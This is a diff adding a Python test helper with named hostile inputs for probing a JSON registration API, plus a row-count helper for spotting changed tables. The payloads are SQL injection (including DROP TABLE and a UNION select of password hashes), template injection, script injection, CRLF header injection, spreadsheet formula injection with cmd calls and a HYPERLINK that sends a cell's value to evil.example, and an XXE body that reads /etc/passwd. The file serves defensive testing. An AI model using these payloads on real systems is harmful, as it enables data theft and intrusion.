@@ -1,0 +1,71 @@
+"""The named hostile inputs, and helpers to throw them and to see what changed."""
+
+from __future__ import annotations
+
+from tests.conftest import all_tables
+
+# Text a person could type into a field (or a client could put in JSON).
+HOSTILE: dict[str, str] = {
+    "oversized": "A" * 100_000,
+    "nul": "Amira\x00Khan",
+    "control_chars": "Amira\x07\x1b[31m\x08Khan",
+    "bidi_override": "Amira\u202eKhan\u202c",
+    "crlf_header": "Amira\r\nBcc: victim@example.org",
+    "sql_or": "' OR 1=1 --",
+    "sql_drop": "Robert'); DROP TABLE registration;--",
+    "sql_union": "x' UNION SELECT password_hash FROM staff_user --",
+    "template_jinja": "{{7*7}}",
+    "template_jinja_str": "{{7*'7'}}{{ 7777*7 }}",
+    "template_stmt": "{% for x in range(3) %}loop{% endfor %}",
+    "template_dollar": "${7*7}#{7*7}<%= 7*7 %>",
+    "html_script": "<script>alert(1)</script>",
+    "html_attr": '"><img src=x onerror=alert(1)>',
+    "formula_hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "formula_plus": "+cmd|' /C calc'!A0",
+    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula_minus": "-2+3+cmd|' /C calc'!A0",
+    "formula_tab": "\t=1+1",
+    "apostrophe_name": "Siobhán O'Brien-Ní Dhuibhir",
+    "long_unicode": "名" * 5_000,
+    "zero_width": "Am\u200bira\ufeff",
+}
+# Evaluated, these would show up in a response; never, if text stays text.
+EVALUATED = ("7777777", "54439", "looplooploop")
+# Text a service may keep as it is (it is a person's words); the rest must be refused
+# or cleaned.
+MUST_REFUSE = {"oversized", "nul"}
+
+# Whole bodies that are not what a JSON API takes.
+BAD_BODIES: dict[str, tuple[bytes, str]] = {
+    "invalid_utf8": (b'{"name": "\xff\xfe\xfa", "email": "a@example.org"}', "application/json"),
+    "lone_surrogate": (b'{"name": "\\ud800", "email": "a@example.org"}', "application/json"),
+    "truncated_json": (b'{"name": "Amira', "application/json"),
+    "deep_nesting": (b"[" * 50_000 + b"]" * 50_000, "application/json"),
+    "deep_object": (b'{"a":' * 20_000 + b"1" + b"}" * 20_000, "application/json"),
+    "huge_body": (b'{"name": "' + b"A" * 2_000_000 + b'"}', "application/json"),
+    "array_not_object": (b'[{"name": "Amira"}]', "application/json"),
+    "number_not_object": (b"49", "application/json"),
+    "null_body": (b"null", "application/json"),
+    "empty_body": (b"", "application/json"),
+    "duplicate_keys": (b'{"name": "A", "name": "B", "email": "a@example.org"}', "application/json"),
+    "text_plain": (b"name=Amira", "text/plain"),
+    "xml": (
+        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><r>&e;</r>",
+        "application/xml",
+    ),
+    "form_encoded": (b"name=Amira&email=a%40example.org", "application/x-www-form-urlencoded"),
+    "multipart": (
+        b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nAmira\r\n--b--\r\n',
+        "multipart/form-data; boundary=b",
+    ),
+}
+
+
+async def row_counts() -> dict[str, int]:
+    """Rows per table, but the key-value store (sessions, login throttling)."""
+    counts = {}
+    for table in all_tables():
+        name = table._meta.tablename
+        if name != "store_entry":
+            counts[name] = await table.count()
+    return counts
